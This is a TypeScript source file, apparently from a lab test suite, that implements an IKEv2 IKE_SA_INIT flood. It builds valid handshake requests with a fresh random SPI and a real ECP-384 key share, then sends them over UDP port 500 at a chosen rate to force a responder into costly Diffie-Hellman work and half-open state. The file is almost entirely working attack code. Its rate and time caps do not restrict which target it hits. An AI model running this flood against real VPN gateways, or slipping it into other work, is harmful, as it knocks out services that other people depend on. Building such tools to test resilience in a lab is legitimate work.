// An IKE_SA_INIT flood for the lab (a stranger's denial-of-service attempt): well-formed
// IKEv2 IKE_SA_INIT requests with a fresh initiator SPI each, the mesh's default proposal
// (AES-GCM-256, PRF-HMAC-SHA384, ECP-384) and a valid ECP-384 key share, so a responder that
// accepts them does the full Diffie-Hellman work and keeps a half-open IKE_SA. Sent only to
// a lab address inside the lab's namespaces, bounded in count and time.
//   node dist/lab/ike-flood.js TARGET RATE_PER_SECOND SECONDS   (prints "sent N")
import { generateKeyPairSync, randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { isIP } from 'node:net';

/** IKEv2 payload / transform numbers (RFC 7296, IANA). */
const PAYLOAD = { none: 0, sa: 33, ke: 34, nonce: 40 } as const;
const EXCHANGE_IKE_SA_INIT = 34;
const FLAG_INITIATOR = 0x08;

function transform(last: boolean, type: number, id: number, keyLength?: number): Buffer {
  const attr = keyLength === undefined ? Buffer.alloc(0) : Buffer.from([0x80, 0x0e, keyLength >> 8, keyLength & 0xff]);
  const t = Buffer.alloc(8);
  t.writeUInt8(last ? 0 : 3, 0);
  t.writeUInt16BE(8 + attr.length, 2);
  t.writeUInt8(type, 4);
  t.writeUInt16BE(id, 6);
  return Buffer.concat([t, attr]);
}

function payload(next: number, body: Buffer): Buffer {
  const h = Buffer.alloc(4);
  h.writeUInt8(next, 0);
  h.writeUInt16BE(4 + body.length, 2);
  return Buffer.concat([h, body]);
}

/** The ECP-384 public point (x || y, 96 bytes) of a fresh key: a share the responder accepts. */
export function ecp384KeyShare(): Buffer {
  const { publicKey } = generateKeyPairSync('ec', { namedCurve: 'secp384r1' });
  const der = publicKey.export({ format: 'der', type: 'spki' });
  return der.subarray(der.length - 96);
}

/** One IKE_SA_INIT request with initiator SPI `spi` (8 bytes). */
export function ikeSaInit(spi: Buffer, keyShare: Buffer): Buffer {
  const transforms = [transform(false, 1, 20, 256), transform(false, 2, 7), transform(true, 4, 20)]; // AES_GCM_16 256, PRF_HMAC_SHA2_384, ECP_384
  const proposalBody = Buffer.concat([Buffer.from([1, 1, 0, transforms.length]), ...transforms]);
  const proposal = Buffer.concat([Buffer.from([0, 0, (4 + proposalBody.length) >> 8, (4 + proposalBody.length) & 0xff]), proposalBody]);
  const sa = payload(PAYLOAD.ke, proposal);
  const keBody = Buffer.concat([Buffer.from([0, 20, 0, 0]), keyShare]);
  const ke = payload(PAYLOAD.nonce, keBody);
  const nonce = payload(PAYLOAD.none, randomBytes(32));
  const body = Buffer.concat([sa, ke, nonce]);
  const header = Buffer.alloc(28);
  spi.copy(header, 0);
  header.writeUInt8(PAYLOAD.sa, 16);
  header.writeUInt8(0x20, 17);
  header.writeUInt8(EXCHANGE_IKE_SA_INIT, 18);
  header.writeUInt8(FLAG_INITIATOR, 19);
  header.writeUInt32BE(0, 20);
  header.writeUInt32BE(28 + body.length, 24);
  return Buffer.concat([header, body]);
}

async function main(argv: readonly string[]): Promise<void> {
  const [target, rateArg, secondsArg] = argv;
  const rate = Number(rateArg);
  const seconds = Number(secondsArg);
  if (target === undefined || isIP(target) === 0 || !(rate > 0 && rate <= 5000) || !(seconds > 0 && seconds <= 120)) {
    throw new Error('usage: ike-flood TARGET RATE_PER_SECOND(1-5000) SECONDS(1-120)');
  }
  const share = ecp384KeyShare();
  const socket = createSocket(isIP(target) === 6 ? 'udp6' : 'udp4');
  const total = Math.round(rate * seconds);
  const perTick = Math.max(1, Math.round(rate / 100));
  let sent = 0;
  await new Promise<void>((resolve) => {
    const timer = setInterval(() => {
      for (let i = 0; i < perTick && sent < total; i++, sent++) socket.send(ikeSaInit(randomBytes(8), share), 500, target);
      if (sent >= total) {
        clearInterval(timer);
        resolve();
      }
    }, 10);
  });
  await new Promise((r) => setTimeout(r, 100));
  socket.close();
  console.log(`sent ${sent}`);
}

if (process.argv[1]?.endsWith('ike-flood.js')) {
  main(process.argv.slice(2)).catch((e: unknown) => {
    console.error(e instanceof Error ? e.message : String(e));
    process.exit(2);
  });
}
